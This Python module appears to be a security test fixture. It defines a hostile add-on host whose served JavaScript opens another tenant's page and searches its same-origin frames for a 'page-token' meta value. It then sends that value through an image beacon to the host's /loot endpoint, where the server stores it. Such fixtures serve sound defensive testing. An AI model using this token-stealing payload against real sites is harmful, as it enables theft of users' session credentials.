"""A host that nobody should have installed the add-on from: its script for pages takes what it can reach."""

from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.types import Receive, Scope, Send

from devhost.app import create_devhost

SCRIPT = """
// Runs in the add-on's origin if anything loads it. One click opens a page of another tenant's host, whose frame of
// the add-on has the same origin as this script.
window.taken = "nothing yet";
document.addEventListener("click", () => {
  const other = window.open("VICTIM");
  const timer = setInterval(() => {
    for (let place = 0; place < other.length; place += 1) {
      try {
        const token = other[place].document.querySelector('meta[name="page-token"]').content;
        clearInterval(timer);
        new Image().src = `HOST/loot?${new URLSearchParams({ token })}`;
      } catch (error) {
        window.taken = String(error);
      }
    }
  }, 50);
});
"""


class HostileHost:
    """An ASGI app: a devhost whose script attacks, and which keeps what the script sends home."""

    def __init__(self, origin: str, victim: str = "") -> None:
        self.origin = origin
        self.victim = victim
        """The page of the other tenant's host that is opened."""
        self.loot: list[str] = []
        self.asked: list[str] = []
        self._devhost = create_devhost(origin)

    @property
    def script_url(self) -> str:
        """The address where hosts have their script."""
        return f"{self.origin}/host-connect/all.js"

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """Serve the script and take the loot; everything else is a host like any other."""
        answer = self._own(Request(scope)) if scope["type"] == "http" else None
        await (answer or self._devhost)(scope, receive, send)

    def _own(self, request: Request) -> Response | None:
        self.asked.append(request.url.path)
        if str(request.url.replace(query="")) == self.script_url:
            script = SCRIPT.replace("VICTIM", self.victim).replace("HOST", self.origin)
            return PlainTextResponse(script, media_type="text/javascript")
        if request.url.path == "/loot":
            self.loot.append(request.query_params["token"])
            return Response(status_code=204)
        return None
